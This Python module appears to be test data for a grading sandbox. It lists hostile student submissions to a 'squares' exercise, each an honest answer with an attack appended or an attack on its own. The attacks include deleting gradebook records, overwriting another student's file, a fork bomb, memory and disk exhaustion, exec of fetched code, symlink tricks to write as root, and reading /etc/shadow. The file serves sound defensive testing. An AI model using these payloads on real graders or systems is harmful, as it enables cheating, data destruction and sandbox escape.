"""Hostile submissions to the `squares` course that the sandbox must contain, as data.

Each case is an honest `squares` answer (worth ex1's 2 points) with an attack appended, or an
attack alone; `score` is what its honest work deserves. `{course}`, `{db}` and `{victim}` are
filled in with the real paths of the course under test, so an attack aims at the right files.
"""

HONEST = '''def squares(n):
    if n < 1:
        raise ValueError("n")
    return [i * i for i in range(1, n + 1)]
'''

CASES = [
    {
        "name": "reads the instructor's notebook to copy the hidden tests",
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": '''import json
try:
    _src = json.load(open("{course}/source/squares/squares.ipynb"))
    _code = "".join("".join(c["source"]) for c in _src["cells"] if "sum(squares(n))" in "".join(c["source"]))
    exec(_code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
except OSError:
    pass
''',
    },
    {
        "name": "deletes every grade in the gradebook",
        "score": 2,
        "ex1_answer": HONEST + '''
import sqlite3
try:
    _db = sqlite3.connect("{db}")
    _db.execute("DELETE FROM cell_grades")
    _db.execute("DELETE FROM grade_records")
    _db.commit()
except Exception:
    pass
''',
    },
    {
        "name": "overwrites another student's submission",
        "score": 2,
        "ex1_answer": HONEST + '''
try:
    open("{victim}", "w").write("{{}}")
except OSError:
    pass
''',
    },
    {
        "name": "leaves a daemon that deletes the gradebook after its kernel is gone",
        "score": 2,
        "ex1_answer": HONEST + '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time, os\\ntime.sleep(4)\\n"
                  "for p in ['{db}', '{victim}']:\\n    try: os.remove(p)\\n    except OSError: pass"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
''',
    },
    {
        "name": "forks until the machine gives up",
        # its children hold every process slot of its sandbox; the tests run in the runner, outside
        # it, so its honest squares keeps its points and nobody else loses anything
        "score": 2,
        "ex1_answer": HONEST + '''
import os, time
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError:
        break
''',
    },
    {
        "name": "allocates memory without end",
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": '''_hog = []
while True:
    _hog.append(bytearray(64 * 1024 * 1024))
''',
    },
    {
        "name": "fetches the answers from a server on the network",
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": '''import urllib.request
try:
    exec(urllib.request.urlopen("http://127.0.0.1:{port}/answers.py", timeout=3).read().decode())
except Exception:
    pass
''',
    },
    {
        "name": "ignores SIGINT and SIGTERM and sleeps past every limit",
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": '''import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
def sum_of_squares(n):
    while True:
        time.sleep(0.1)
''',
    },
    {
        "name": "kills its own kernel",
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": "import os\nos._exit(0)",
    },
    {
        "name": "prints gigabytes",
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": "while True:\n    print('x' * 100_000)",
    },
    {
        "name": "links the files of its socket folder to host paths, then kills its kernel",
        # the grader opens the kernel's log again when it restarts the kernel, and writes its
        # connection file there: as root, through a link, anywhere
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": '''import os
from ipykernel.kernelapp import IPKernelApp
_folder = os.path.dirname(IPKernelApp.instance().connection_file)
for _name in ("kernel.log", "kernel.json"):
    try:
        os.unlink(os.path.join(_folder, _name))
    except OSError:
        pass
    try:
        os.symlink("{outside}/" + _name, os.path.join(_folder, _name))
    except OSError:
        pass
os.kill(os.getpid(), 9)
''',
    },
    {
        "name": "reads a file of root's that no mount hides",
        # a sandbox whose user is root on the host reads /etc/shadow; earns ex2 only if it can
        "score": 2,
        "ex1_answer": HONEST,
        "ex2_answer": '''try:
    open("/etc/shadow").read()
    def sum_of_squares(n):
        return sum(i * i for i in range(1, n + 1))
except OSError:
    pass
''',
    },
    {
        "name": "writes a file of gigabytes into its working folder",
        "score": 2,
        "ex1_answer": HONEST + '''
try:
    with open("big.bin", "wb") as _f:
        for _ in range(4096):
            _f.write(b"0" * 1024 * 1024)
except OSError:
    pass
''',
    },
]
